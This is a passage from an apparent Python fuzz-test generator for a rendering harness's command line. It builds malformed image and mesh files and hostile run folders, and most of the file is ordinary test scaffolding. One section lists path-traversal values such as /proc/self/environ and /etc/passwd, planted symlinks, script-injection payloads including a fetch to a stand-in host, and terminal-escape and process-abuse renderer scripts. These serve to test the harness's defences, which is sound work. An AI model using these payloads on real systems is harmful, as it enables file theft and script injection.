            "constant": (_exr(ones, ones), None), "huge-values": (_exr(ones * 6e4, ones), None),
            "zero-variance": (_exr(ones * 0.5, 0 * ones), None), "1x1": (_exr(ones[:1, :1], ones[:1, :1]), "bad"),
        }
        lies = lying_exrs(assets)  # 400-digit variance_dof and spp, a second part of 100000 x 100000 pixels
        self.made.update({name: (lies[f"{name}.exr"], None) for name in ("huge-dof", "huge-spp", "multipart-lie")})

    def make(self, rng: random.Random) -> tuple[bytes, str | None]:
        roll = rng.random()
        data = self.good
        if roll < 0.3:
            return data, None
        if roll < 0.55:
            broken = bytearray(data)
            for _ in range(rng.randint(1, 6)):
                broken[rng.randrange(len(broken))] = rng.randrange(256)
            return bytes(broken), None
        if roll < 0.7:
            return data[:rng.randrange(len(data))], "bad"
        if roll < 0.75:
            return _patch_window(data, rng.choice([200000, 2**30, -5, 15, 31]), rng.choice([200000, 15, -2])), None
        name = rng.choice(sorted(self.made))
        return self.made[name]


def gen_compare(rng, assets, index) -> Input:
    """``harness compare`` (and now and then ``harness view --no-tev``) of two EXR files: valid, corrupted,
    truncated, synthesised, lying (a data window of 200000 pixels, 400-digit variance_dof and spp attributes, a
    second part claiming 100000 x 100000 pixels), special paths."""
    maker = _EXR_MAKERS.setdefault(id(assets), ExrMaker(assets))
    inp = cli_input("compare", index, ["compare"])
    inp.symptoms += OUT_OF_MEMORY  # a header's claims believed: the size must be checked before allocating
    paths = []
    same = rng.random() < 0.05  # one file as both test and reference
    for role in (("test", "reference"),) if same else ("test", "reference"):
        roles = role if same else (role,)
        name = f"{roles[0]}.exr"
        if rng.random() < 0.06:
            paths += [special_file(rng, inp, name)] * len(roles)
            continue
        data, bad = maker.make(rng)
        inp.files[name] = data
        paths += [name] * len(roles)
        if bad == "bad" or (bad == "reference-bad" and "reference" in roles) or (bad == "test-bad" and "test" in roles):
            inp.bad.append(f"{'/'.join(roles)} EXR is bad")
        inp.valid = inp.valid and bad is None and data == maker.good
    argv = list(paths)
    if rng.random() < 0.4:
        argv += pick(rng, inp, "--tile", ["1", "8", "16", "1024"], ["0", "-1", "1025", "x", "", "1.5", "1_0"], 0.5)
    if rng.random() < 0.4:
        argv += pick(rng, inp, "--alpha", ["0.001", "0.5", "1e-9"], ["0", "1", "-0.1", "2"] + FLOAT_BAD, 0.5)
    argv += flags(rng, "--json")
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    if rng.random() < 0.15:  # harness view reads the same files (its page, not tev): nothing marked, no traceback
        inp.call = ["cli", "view", *paths, "--no-tev", "--out", "v", "--quiet"]
        inp.bad, inp.valid = [], False
    return inp


_EXR_MAKERS: dict[int, ExrMaker] = {}


def gen_ground_truth(rng, assets, index) -> Input:
    inp = cli_input("ground_truth", index, ["ground-truth"])
    closed = rng.random() < 0.7
    scene, _ = add_scene(rng, inp, assets, base="furnace.toml" if closed else None)
    p_bad = 0.4 if closed else 1.0  # without a closed form only refusals stay cheap (Mitsuba is not imported)
    argv = [scene]
    options = [("--spp", ["4", "16", "1024"], SPP_BAD), ("--seed", SEED_VALID, SEED_BAD),
               ("--chunk-spp", ["4", "256"], SPP_BAD)]
    bad_one = rng.randrange(len(options)) if rng.random() < p_bad else -1
    for i, (option, valid, bad) in enumerate(options):
        if i == bad_one or rng.random() < 0.5:
            argv += pick(rng, inp, option, valid, bad, 1.0 if i == bad_one else 0.0)
    if rng.random() < 0.2:
        inp.files["blocker"] = b"a file"
        # a closed form caches nothing, so an unusable cache folder is not certainly an error
        argv += ["--cache-dir", rng.choice(["cache", "cache/deeper", "blocker", "/proc/harness-fuzz/c", ""])]
    argv += flags(rng, "--json", "--quiet", "--no-closed-form", p=0.2)
    if rng.random() < 0.08:
        argv += ["--mitsuba-variant", rng.choice(["scalar_rgb", "nope"])]
    if not inp.bad and (not closed or "--no-closed-form" in argv):
        argv[argv.index(scene):argv.index(scene) + 1] = [scene, "--spp", "0"]  # keep it cheap: refused
        inp.bad.append("--spp '0'")
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


def gen_convergence(rng, assets, index) -> Input:
    inp = cli_input("convergence", index, ["convergence"])
    closed = rng.random() < 0.8
    scene, _ = add_scene(rng, inp, assets, base="furnace.toml" if closed else None, special=0.03)
    argv = [scene]
    argv += ladder(rng, inp, "--spp", 0.2)
    if rng.random() < 0.15:
        argv += ladder(rng, inp, "--seconds", 0.5, floats=True)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--chunk-spp", ["1", "2"], SPP_BAD, 0.5)
    argv += pick(rng, inp, "--film", ["16x16", "8x8", "4X6"], ["0x16", "16", "x", "16x16x16", "-1x4", "99999x99999",
                                                                "\uff11\uff16x16", "", "16x"], 0.15)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--ground-truth-spp", ["16"], SPP_BAD, 0.6)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--seed", SEED_VALID, SEED_BAD, 0.5)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--k", ["3", "1.5"], ["0", "-1"] + FLOAT_BAD, 0.6)
    for _ in range(rng.choice((0, 0, 1, 2))):
        if rng.random() < 0.6:
            argv += pick(rng, inp, "--renderer", ["reference"], ["refrence", "", "nope.toml"], 0.3)
        else:
            argv += pick(rng, inp, "--set", SET_VALID, SET_BAD, 0.4)
    if "--set" in argv and any(v.startswith("rr=") for v in argv):
        argv += ["--set", "max_depth=3"]
    argv += out_folder(rng, inp, 0.1)
    argv += flags(rng, "--json", "--quiet")
    if not closed and not inp.bad:
        argv += ["--spp", "0"]
        inp.bad.append("--spp '0'")
    common_options(rng, inp, argv)
    settle_settings(inp, argv)
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


def gen_calibrate(rng, assets, index) -> Input:
    inp = cli_input("calibrate", index, ["calibrate"])
    if rng.random() < 0.5:
        suite = add_suite(rng, inp, assets)
    else:
        inp.files.update(assets.scene_files())
        doc = tomllib.loads(assets.texts["suite.toml"])
        doc["cases"] = [c for c in doc["cases"] if c["name"].startswith("furnace")]
        inp.files["suite.toml"] = to_toml(doc).encode()
        suite = "suite.toml"
    argv = [suite, *pick(rng, inp, "--seeds", ["1", "2"], SPP_BAD + ["1000000000"], 0.2)]
    for _ in range(rng.choice((0, 1, 1, 2))):
        argv += pick(rng, inp, "--cases", ["furnace*", "*", "furnace", "*mutant"], ["[[", "nomatch", "", "x*"], 0.3)
    argv += out_folder(rng, inp, 0.1)
    argv += flags(rng, "--quiet")
    common_options(rng, inp, argv)
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


def gen_stress(rng, assets, index) -> Input:
    inp = cli_input("stress", index, ["stress"])
    scene, _ = add_scene(rng, inp, assets, base="furnace.toml", special=0.03)
    argv = [scene, *pick(rng, inp, "--renderer", ["reference"], ["refrence", ""], 0.05)]
    for _ in range(rng.randint(1, 2)):
        argv += pick(rng, inp, "--variant", ["original", "scale=10", "scale=1e-2", "translate=100", "sliver=10"],
                     ["scale=0", "nope", "translate=nan", "scale", "original=1", "translate=1e300", "scale=-1",
                      "sliver=0.5", "", "scale=inf"], 0.5)
    argv += pick(rng, inp, "--spp", ["2", "4"], SPP_BAD, 0.15)
    argv += pick(rng, inp, "--film", ["16x16", "8x8"], ["0x16", "16", "x", "99999x99999"], 0.1)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--k", ["6", "2.5"], ["0", "-1"] + FLOAT_BAD, 0.6)
    if rng.random() < 0.15:
        argv += pick(rng, inp, "--ground-truth-spp", ["16", "1024"], SPP_BAD, 0.6)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--alpha", ["0.001", "0.1"], ["0", "1", "-0.1", "2"] + FLOAT_BAD, 0.6)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--set", SET_VALID[:8], SET_BAD, 0.5)
    if rng.random() < 0.2:
        argv += pick(rng, inp, "--seed", SEED_VALID, SEED_BAD, 0.5)
    argv += out_folder(rng, inp, 0.1)
    argv += flags(rng, "--json", "--quiet")
    common_options(rng, inp, argv)
    settle_settings(inp, argv)
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


def gen_export(rng, assets, index) -> Input:
    inp = cli_input("export", index, ["export"])
    scene, outside = add_scene(rng, inp, assets)
    argv = [scene, *pick(rng, inp, "--format", ["mitsuba-xml", "ply", "obj", "gltf"], ["", "xml", "PLY", "stl"], 0.15)]
    argv += out_folder(rng, inp, 0.1)
    if rng.random() < 0.3:
        argv += pick(rng, inp, "--spp", ["1", "16"], SPP_BAD, 0.5)
    if rng.random() < 0.3:
        argv += pick(rng, inp, "--seed", SEED_VALID, SEED_BAD, 0.5)
    argv += flags(rng, "--json", "--allow-outside-paths")
    if outside and "--allow-outside-paths" in argv:
        inp.bad = [b for b in inp.bad if "file =" not in b]
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


def gen_bench(rng, assets, index) -> Input:
    """Only refusals (a valid bench renders Mitsuba): one certainly bad option among valid ones."""
    inp = cli_input("bench", index, ["bench"])
    inp.files.update(assets.scene_files())
    options = [("--spp", ["1"], SPP_BAD), ("--repeats", ["1"], SPP_BAD), ("--ground-truth-spp", ["16"], SPP_BAD),
               ("--memory", ["16x2"], ["0x1", "x", "1024", "16x0", "", "16x2x2", "\uff11x2"]),
               ("--scene", ["furnace", "tiny.toml"], ["nope", "", "missing.toml", "sub"]),
               ("--out", ["b.json"], ["nofolder/b.json", "blocker/b.json"])]
    inp.files["blocker"] = b"a file"
    inp.dirs.append("sub")
    bad_one = rng.randrange(len(options))
    argv = []
    for i, (option, valid, bad) in enumerate(options):
        if i == bad_one or rng.random() < 0.5:
            argv += pick(rng, inp, option, valid, bad, 1.0 if i == bad_one else 0.0)
    argv += flags(rng, "--no-strategies", "--json", "--quiet", "--check", "--scaling")
    if rng.random() < 0.1:
        argv += ["--cache-dir", rng.choice(["cache", "blocker", ""])]
    inp.call += argv
    return inp


# ---------------------------------------------------------------------------------------------------------------
# Generators of untrusted run folders, planted links, hostile peers, misbehaving renderers and mesh references:
# inputs that must not reach outside their folder (the oracles of Watch, leftover_processes and raw_escapes)

RUN_CASES = ("furnace", "tiny", "furnace-mutant")
#: values of a results.json path field that name something outside the run folder, or something not a file
HOSTILE_FILE_PATHS = ["@OUTSIDE@/secret.exr", "@OUTSIDE@/secret.png", "@OUTSIDE@/secret.txt", "/proc/self/environ",
                      "../outside/secret.exr", "run/../../outside/secret.exr", "../../outside/secret.exr",
                      "run/cases/tiny/leak.exr", "run/cases/tiny/fifo.exr", "/dev/zero", "/etc/passwd",
                      "@INPUT@/run/cases/tiny/pvalue.exr", "", ".", "..", "/", "run/cases/tiny"]
HOSTILE_FOLDER_PATHS = ["@OUTSIDE@", "../outside", "../../outside", "run/../../outside", "run/leakdir",
                        "/proc/self", "/etc", "/dev", "run/cases/tiny/fifo.exr", ".", "", "/",
                        "@INPUT@/run/cases/tiny/images"]


def _results_doc(assets: Assets) -> dict:
    return json.loads(assets.texts["results.json"])


def _plant_outside_helpers(inp: Input) -> None:
    """The links and pipes that the hostile paths above may name: a link to the secret, one to the outside folder,
    a named pipe."""
    inp.links["run/cases/tiny/leak.exr"] = "@OUTSIDE@/secret.exr"
    inp.links["run/leakdir"] = "@OUTSIDE@"
    inp.fifos.append("run/cases/tiny/fifo.exr")


def gen_results_paths(rng, assets, index) -> Input:
    """``harness report`` and a resumed ``harness run`` over a run folder whose results.json names files and folders
    outside it (absolute, ``..``, /proc/self/environ, links planted in the run folder, a named pipe, /dev/zero),
    whose files are links out, named pipes or PNGs that are not, and whose viewer.js carries a script."""
    inp = cli_input("results_paths", index, [])
    inp.valid = False
    add_run(inp, assets)
    inp.files.update(assets.scene_files())
    inp.files["suite.toml"] = assets.texts["suite.toml"].encode()
    doc = _results_doc(assets)
    helpers = False
    for _ in range(rng.choice((1, 1, 2, 3))):
        attack = rng.choice(("field", "field", "field", "link", "link", "fifo", "payload", "not-png"))
        case_name = rng.choice(RUN_CASES)
        case = next(c for c in doc["cases"] if c.get("name") == case_name)
        case_dir = f"run/cases/{case_name}"
        if attack == "field":
            table, key = rng.choice((("verdict_maps", "pvalue"), ("verdict_maps", "failing"),
                                     ("report_images", "folder"), ("viewer", "folder"), ("render", "exr"),
                                     ("viewer", "data"), ("viewer", "thumbnail"), ("report_images", "images")))
            if not isinstance(case.get(table), dict):
                continue
            if key == "folder":
                case[table][key] = rng.choice(HOSTILE_FOLDER_PATHS)
                if table == "report_images" and rng.random() < 0.7:  # names of the outside folder's secrets
                    for image in case[table].get("images", []):
                        image["png"], image["exr"] = "secret.png", "secret.exr"
                elif table == "viewer" and rng.random() < 0.7:
                    case[table]["data"], case[table]["thumbnail"] = "secret.txt", "secret.png"
            elif key == "images":
                for image in case[table].get("images", []):
                    image[rng.choice(("png", "exr"))] = rng.choice(HOSTILE_FILE_PATHS)
            else:
                case[table][key] = rng.choice(HOSTILE_FILE_PATHS)
            helpers = True
        elif attack == "link":
            name = rng.choice(("pvalue.exr", "failing.exr", "viewer.js", "thumbnail.png", "render.exr",
                               "images/render.png", "images/render.exr", "images", ""))
            path = f"{case_dir}/{name}".rstrip("/")
            target = {".exr": "secret.exr", ".png": "secret.png", ".js": "secret.txt"}.get(Path(name).suffix, "")
            _plant_link(inp, path, f"@OUTSIDE@/{target}".rstrip("/") if rng.random() < 0.8 else
                        rng.choice(["/proc/self/environ", "/etc/passwd", "/dev/zero", _up(path) + target]))
        elif attack == "fifo":
            name = rng.choice(("pvalue.exr", "viewer.js", "thumbnail.png", "images/render.png", "render.exr"))
            inp.files.pop(f"{case_dir}/{name}", None)
            inp.fifos.append(f"{case_dir}/{name}")
        elif attack == "payload":
            text = assets.run_files[f"cases/{case_name}/viewer.js"].decode()
            first, _, rest = text.partition("\n")
            payload = rng.choice([f"\n;window.pwned = '{PAYLOAD}';\n", f"\n}});fetch('http://x/{PAYLOAD}');({{\n",
                                  f"</script><script>alert('{PAYLOAD}')</script>"])
            text = rng.choice([first + payload + rest, text + payload, text[:16] + payload])
            inp.files[f"{case_dir}/viewer.js"] = text.encode()
        else:  # a .png that is not a PNG (a page, an EXR's bytes, nothing)
            name = rng.choice(("thumbnail.png", "images/render.png", "pvalue_thumbnail.png"))
            inp.files[f"{case_dir}/{name}"] = rng.choice([b"<html><script>alert(1)</script></html>",
                                                         assets.blobs["good.exr"], b"", b"\x89PNG\r\n\x1a\n"])
    if helpers:
        _plant_outside_helpers(inp)
    _settle(inp)
    inp.files["run/results.json"] = json.dumps(doc).encode()
    if rng.random() < 0.7:
        argv = ["report", "run/results.json", "--no-convergence", "--no-shadow-rays", "--no-strategies", "--quiet"]
        if rng.random() < 0.5:
            argv += ["--out", "rep"]
    else:  # the run resumes over the planted results.json (its suite is the same), then writes its report
        argv = ["run", "suite.toml", "--out", "run", "--executor", "serial", "--quiet", "--no-studies"]
        if rng.random() < 0.4:
            argv.append("--no-report")
    inp.call += argv
    return inp


def _up(name: str) -> str:
    """The relative target of a link at ``name`` (in the input's folder) that leads to the outside folder."""
    return "../" * (name.count("/") + 1) + "outside/"


def _settle(inp: Input) -> None:
    """One thing at each path: a planted link wins over what lies at or below it, a named pipe over a file."""
    def covered(name: str, by) -> bool:
        return any(name == other or name.startswith(other + "/") for other in by)

    inp.fifos = sorted({f for f in inp.fifos if not covered(f, inp.links)})
    inp.files = {n: d for n, d in inp.files.items() if not covered(n, inp.links) and n not in inp.fifos}


def _plant_link(inp: Input, name: str, target: str) -> None:
    """A link at ``name`` (what the input held there, and below it, goes); never below another planted link."""
    if any(name == other or name.startswith(other + "/") or other.startswith(name + "/") for other in inp.links):
        return
    for existing in [n for n in inp.files if n == name or n.startswith(name + "/")]:
        del inp.files[existing]
    inp.dirs = [d for d in inp.dirs if d != name and not d.startswith(name + "/")]
    inp.fifos = [f for f in inp.fifos if f != name and not f.startswith(name + "/")]
    inp.links[name] = target


#: where a command writes in its output folder: links planted there must be neither followed nor removed
PLANTED_LINK_PLACES = {
    "run": [".lock", "cases", "cases/tiny", "cases/furnace", "cases/tiny/images", "studies", "results.json",
            "index.html", "report.json", "summary.md", "cases/tiny/render.exr", "cases/tiny/viewer.js",
            "cases/furnace/pvalue.exr", "report"],
    "calibrate": [".lock", "calibration.json", "calibration.md", "cases", "cases/furnace"],
    "baseline": [".lock", "cases", "cases/furnace", "cases/tiny", "results.json", "studies", "cases/tiny/images"],
    "report": ["index.html", "report.json", "summary.md", "report", "tiny", "furnace", "studies", ".lock"],
}


def gen_planted_links(rng, assets, index) -> Input:
    """``run``, ``calibrate``, ``baseline save --run-out`` and ``report`` writing into an output folder where links
    to a victim outside were planted (at ``.lock``, ``cases``, ``cases/<case>``, ``images``, ``studies``,
    results.json, the report's files), some dangling."""
    inp = cli_input("planted_links", index, [])
    inp.valid = False
    inp.files.update(assets.scene_files())
    inp.files["suite.toml"] = assets.texts["suite.toml"].encode()
    command = rng.choice(("run", "run", "run", "calibrate", "baseline", "report"))
    out = "out"
    if command == "run":
        argv = ["run", "suite.toml", "--out", out, "--executor", "serial", "--quiet", "--no-studies"]
        argv += flags(rng, "--no-report", "--fresh", p=0.3)
    elif command == "calibrate":
        doc = tomllib.loads(assets.texts["suite.toml"])
        doc["cases"] = [c for c in doc["cases"] if c["name"] == "furnace"]
        inp.files["suite.toml"] = to_toml(doc).encode()
        argv = ["calibrate", "suite.toml", "--seeds", "1", "--out", out, "--quiet"]
    elif command == "baseline":
        argv = ["baseline", "save", "suite.toml", "--out", "b.json", "--run-out", out, "--quiet"]
    else:
        add_run(inp, assets)
        inp.files["run/results.json"] = assets.texts["results.json"].encode()
        argv = ["report", "run/results.json", "--out", out, "--no-convergence", "--no-shadow-rays",
                "--no-strategies", "--quiet"]
    if command in ("run", "baseline") and rng.random() < 0.4:  # an earlier run's folder to resume
        for name, data in assets.run_files.items():
            inp.files[f"{out}/{name}"] = data
        inp.files[f"{out}/results.json"] = assets.texts["results.json"].encode()
    inp.dirs.append(out)
    places = PLANTED_LINK_PLACES[command]
    for place in rng.sample(places, rng.choice((1, 1, 1, 2))):
        folder_like = "." not in Path(place).name or place in ("studies",)
        if folder_like and rng.random() < 0.85:
            target = "@OUTSIDE@/victim-dir"
        else:
            target = rng.choice(["@OUTSIDE@/victim.txt", "@OUTSIDE@/victim.txt", "@OUTSIDE@/new-file",
                                 _up(f"{out}/{place}") + "victim.txt", "@OUTSIDE@/victim-dir"])
        _plant_link(inp, f"{out}/{place}", target)
    inp.call += argv
    return inp


#: the hostile listeners' shares (each silent one costs a connection timeout)
PEER_WEIGHTS = {"garbage": 25, "http": 20, "close": 20, "huge": 15, "refused": 16, "silent": 4}


def gen_hostile_peers(rng, assets, index) -> Input:
    """``run --executor tcp://127.0.0.1:PORT`` and ``view --tev 127.0.0.1:PORT`` against listeners that are not a
    Dask scheduler or tev (:func:`start_peers`): garbage, an HTTP answer, silence, a close at once, a huge frame
    length, nothing listening."""
    inp = cli_input("hostile_peers", index, [])
    kind = rng.choices(list(PEER_WEIGHTS), weights=list(PEER_WEIGHTS.values()))[0]
    address = f"127.0.0.1:@PEER:{kind}@"
    if rng.random() < 0.5:
        inp.files.update(assets.scene_files())
        doc = tomllib.loads(assets.texts["suite.toml"])
        doc["cases"] = [c for c in doc["cases"] if c["name"] == "furnace"]
        inp.files["suite.toml"] = to_toml(doc).encode()
        inp.call += ["run", "suite.toml", "--out", "out", "--executor", f"tcp://{address}", "--quiet", "--no-report"]
        inp.bad.append(f"--executor names a {kind} peer, not a Dask scheduler")
    else:
        inp.files["good.exr"] = assets.blobs["good.exr"]
        inp.files["ref.exr"] = assets.blobs["ref.exr"]
        inp.call += ["view", "good.exr", *(["ref.exr"] if rng.random() < 0.5 else []), "--tev", address,
                     "--out", "v", *flags(rng, "--quiet")]
        if kind in ("garbage", "http", "huge", "close"):  # tev answers nothing and keeps the connection
            inp.lies.append("to tev at")
    return inp


SLEEPER = "[sys.executable, '-c', 'import time; time.sleep(30)']"  # a grandchild that outlives its renderer
COPY_GOOD = "shutil.copy(os.path.join(here, 'good.exr'), out)\n"
MISBEHAVIOURS = {  # kind: (the renderer script's body after `out, here = sys.argv[1:3]`, certainly bad for render)
    "flood-stdout": ("chunk = b'x' * 2**20 + b'\\n'\nfor _ in range(1400):\n    os.write(1, chunk)\n"
                     "shutil.copy(os.path.join(here, 'good.exr'), out)\n", False),
    "flood-stderr": ("chunk = b'y' * 2**20 + b'\\n'\nfor _ in range(1400):\n    os.write(2, chunk)\nsys.exit(3)\n",
                     True),
    "escapes-fail": ("sys.stderr.write('\\x1b[2J\\x1b]0;pwned\\x07 \\u202eevil\\u202c done \\x1b[31m\\n')\n"
                     "sys.exit(4)\n",
                     True),
    "escapes-ok": ("print('\\x1b[31mred\\x1b[0m \\u2067x\\u2069')\nsys.stderr.write('\\x1b[2K\\u202e\\n')\n"
                   "shutil.copy(os.path.join(here, 'good.exr'), out)\n", False),
    "grandchild": (f"subprocess.Popen({SLEEPER}, start_new_session=True, **QUIET)\n{COPY_GOOD}", False),
    "grandchild-group": (f"subprocess.Popen({SLEEPER}, **QUIET)\n{COPY_GOOD}", False),
    "grandchild-fail": (f"subprocess.Popen({SLEEPER}, start_new_session=True, **QUIET)\nsys.exit(1)\n", True),
    "nan": ("shutil.copy(os.path.join(here, 'nan-everywhere.exr'), out)\n", True),
    "not-exr": ("open(out, 'wb').write(b'not an EXR at all')\n", True),
    "lying-window": ("shutil.copy(os.path.join(here, 'lying-window.exr'), out)\n", True),
    "multipart-lie": ("shutil.copy(os.path.join(here, 'multipart-lie.exr'), out)\n", False),
    "huge-dof": ("shutil.copy(os.path.join(here, 'huge-dof.exr'), out)\n", False),
    "sleep": ("time.sleep(60)\n", True),
    "ignore-term": ("signal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(60)\n", True),
    "nul-command": ("shutil.copy(os.path.join(here, 'good.exr'), out)\n", True),
    "tiny-timeout": ("shutil.copy(os.path.join(here, 'good.exr'), out)\n", True),
}
#: what the output shows where the harness ran out of memory (on the address-space cap of the child)
OUT_OF_MEMORY = ["Cannot allocate memory", "MemoryError", "Unable to allocate"]
#: misbehaviours after which the renderer still writes its EXR: the render must succeed
WORKING_MISBEHAVIOURS = ("flood-stdout", "escapes-ok", "grandchild", "grandchild-group")
SCRIPT_HEAD = ("import os, shutil, signal, subprocess, sys, time\nout, here = sys.argv[1:3]\n"
               "QUIET = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")


def lying_exrs(assets: Assets) -> dict[str, bytes]:
    """EXR files that lie: NaN everywhere, a data window of 100000 x 100000, a second part that claims 100000 x
    100000, 400-digit variance_dof and spp attributes (made once)."""
    if "huge-dof.exr" in assets.blobs:
        return {k: assets.blobs[k] for k in ("nan-everywhere.exr", "lying-window.exr", "multipart-lie.exr",
                                              "huge-dof.exr", "huge-spp.exr")}
    ones = np.ones((16, 16, 3), np.float32)
    made = {"nan-everywhere.exr": _exr(np.full_like(ones, np.nan), ones),
            "lying-window.exr": _patch_window(assets.blobs["good.exr"], 99999, 99999),
            "multipart-lie.exr": _multipart_lie(),
            "huge-dof.exr": _exr(ones, 0.01 * ones, metadata={"variance_dof": "9" * 400, "spp": "16"}),
            "huge-spp.exr": _exr(ones, 0.01 * ones, metadata={"spp": "9" * 400})}
    assets.blobs.update(made)
    return made


def _multipart_lie() -> bytes:
    """A two-part EXR whose second part's data window claims 100000 x 100000 pixels."""
    path = Path(f"/tmp/harness-fuzz-multipart-{os.getpid()}.exr")
    header = {"compression": OpenEXR.ZIP_COMPRESSION, "type": OpenEXR.scanlineimage}
    parts = [OpenEXR.Part(dict(header), {"RGB": np.ones((16, 16, 3), np.float32)}, name=name) for name in ("a", "b")]
    try:
        OpenEXR.File(parts).write(str(path))
        data = path.read_bytes()
    finally:
        path.unlink(missing_ok=True)
    key = b"dataWindow\x00box2i\x00"
    second = data.index(key, data.index(key) + 1) + len(key) + 4
    return data[:second] + struct.pack("<4i", 0, 0, 99999, 99999) + data[second + 16:]


def gen_misbehaving_renderers(rng, assets, index) -> Input:
    """``render`` (and ``run``) with an external renderer that misbehaves: floods stdout or stderr, writes terminal
    escapes, leaves a grandchild running, writes NaN everywhere or an EXR that lies, outsleeps a short timeout,
    ignores SIGTERM; renderer files with a NUL in the command or a subnormal timeout."""
    inp = cli_input("misbehaving_renderers", index, [])
    inp.valid = False
    kind = rng.choice(sorted(MISBEHAVIOURS))
    body, bad = MISBEHAVIOURS[kind]
    inp.files.update(assets.scene_files())
    inp.files["good.exr"] = assets.blobs["good.exr"]
    inp.files.update(lying_exrs(assets))
    inp.files["r.py"] = (SCRIPT_HEAD + body).encode()
    inp.symptoms += OUT_OF_MEMORY  # a flood held whole, or a lying EXR header believed
    script = "{here}/r.py\\u0000x" if kind == "nul-command" else "{here}/r.py"
    timeout = {"sleep": "0.5", "ignore-term": "0.5", "tiny-timeout": "5e-324"}.get(kind, "10")
    inp.files["renderer.toml"] = (f'name = "misbehaving"\ncommand = ["{{python}}", "{script}", "{{out}}", "{{here}}"]\n'
                                  f"timeout = {timeout}\nrepeats = 2\n").encode()
    if rng.random() < 0.8:
        inp.call += ["render", "tiny.toml", "--renderer", "renderer.toml", "--spp", "2", "--out", "out.exr",
                     *flags(rng, "--quiet", "--json")]
        if kind in ("nul-command", "tiny-timeout"):  # the renderer file itself is bad: refused when loaded
            inp.bad.append(f"the renderer file is bad: {kind}")
        elif bad:  # the render fails (exit 1, one line), or the command refuses it
            inp.fails.append(f"the renderer misbehaves: {kind}")
        elif kind in WORKING_MISBEHAVIOURS:
            inp.succeeds = f"the renderer works ({kind})"
    else:
        doc = tomllib.loads(assets.texts["suite.toml"])
        doc["cases"] = [dict(c, renderer="renderer.toml") for c in doc["cases"] if c["name"] == "tiny"]
        inp.files["suite.toml"] = to_toml(doc).encode()
        inp.call += ["run", "suite.toml", "--out", "out", "--executor", "serial", "--quiet", "--no-report"]
        if kind in ("nul-command", "tiny-timeout"):
            inp.bad.append(f"the renderer file is bad: {kind}")
    return inp


#: names an OBJ's mtllib or an MTL's map_Kd may give: named pipes, devices, files outside, absolute paths, links out
MESH_REFERENCES = ["fifo", "/dev/zero", "@OUTSIDE@/secret.txt", "../outside/secret.txt", "/etc/passwd",
                   "link-out", "missing.mtl", "sub", "ok.mtl", "/proc/self/environ", "../outside/secret.png"]
MESH_SCENE_TAIL = '\n[[shapes]]\nname = "m"\ntype = "mesh"\nmaterial = "white"\nfile = "{file}"\n'
#: the huge environment map's size (height, width): 8192 x 4096 compresses to little
HUGE_ENVMAP = (4096, 8192)
_HUGE_ENVMAPS: dict[tuple, bytes] = {}


def _reference(inp: Input, name: str, fifo_name: str) -> str:
    """The text an OBJ or MTL names for ``name``, planting the pipe, link or folder it needs."""
    if name == "fifo":
        inp.fifos.append(fifo_name)
        return fifo_name
    if name == "link-out":
        inp.links["link-out.mtl"] = "@OUTSIDE@/secret.txt"
        return "link-out.mtl"
    if name == "sub":
        inp.dirs.append("sub")
    return name


def _ply(binary: bool, faces_claimed: int, faces_written: int, vertices_claimed: int = 3) -> bytes:
    fmt = "binary_little_endian" if binary else "ascii"
    header = (f"ply\nformat {fmt} 1.0\nelement vertex {vertices_claimed}\nproperty float x\nproperty float y\n"
              f"property float z\nelement face {faces_claimed}\nproperty list uchar int vertex_indices\nend_header\n")
    vertices = [(0, 0, 0), (1, 0, 0), (0, 1, 0)]
    if binary:
        body = b"".join(struct.pack("<3f", *v) for v in vertices)
        body += struct.pack("<B3i", 3, 0, 1, 2) * faces_written
    else:
        body = "".join(f"{x} {y} {z}\n" for x, y, z in vertices).encode() + b"3 0 1 2\n" * faces_written
    return header.encode() + body


def gen_mesh_references(rng, assets, index) -> Input:
    """Scenes whose mesh files name other files: an OBJ's ``mtllib`` and its MTL's ``map_Kd`` naming a named pipe,
    /dev/zero, a file outside, an absolute path, a link out; PLYs whose header counts lie (ASCII and binary); an
    environment map of 8192 x 4096 pixels that compresses to little. Loaded, rendered or exported."""
    inp = Input("mesh_references", index, [])
    inp.files.update(assets.scene_files())
    roll = rng.random()
    base = assets.texts["tiny.toml"]
    if roll < 0.55:  # OBJ + MTL
        obj = "v 0 0 0\nv 1 0 0\nv 0 1 0\nvt 0 0\nvt 1 0\nvt 0 1\nusemtl a\nf 1/1 2/2 3/3\n"
        if rng.random() < 0.5:
            mtllib = _reference(inp, rng.choice(MESH_REFERENCES), "fifo.mtl")
            texture = "tex.png"
        else:
            mtllib = "ok.mtl"
            texture = _reference(inp, rng.choice(MESH_REFERENCES), "fifo.png")
        inp.files["ok.mtl"] = f"newmtl a\nKd 0.5 0.5 0.5\nmap_Kd {texture}\n".encode()
        inp.files["tex.png"] = b"\x89PNG\r\n\x1a\n"
        inp.files["m.obj"] = f"mtllib {mtllib}\n{obj}".encode()
        inp.files["scene.toml"] = (base + MESH_SCENE_TAIL.format(file="m.obj")).encode()
    elif roll < 0.9:  # a PLY whose header lies
        binary = rng.random() < 0.5
        faces_claimed, faces_written, vertices = rng.choice([(1000, 511, 3), (10**9, 1, 3), (1, 1, 10**9),
                                                             (1000, 0, 3), (2, 1, 3), (1, 1, 3)])
        inp.files["lie.ply"] = _ply(binary, faces_claimed, faces_written, vertices)
        if (faces_claimed, faces_written, vertices) != (1, 1, 3):
            inp.bad.append(f"{'binary' if binary else 'ASCII'} PLY claims {faces_claimed} faces and {vertices} "
                           f"vertices, holds {faces_written} faces")
        inp.files["scene.toml"] = (base + MESH_SCENE_TAIL.format(file="lie.ply")).encode()
    else:  # a huge environment map
        if HUGE_ENVMAP not in _HUGE_ENVMAPS:
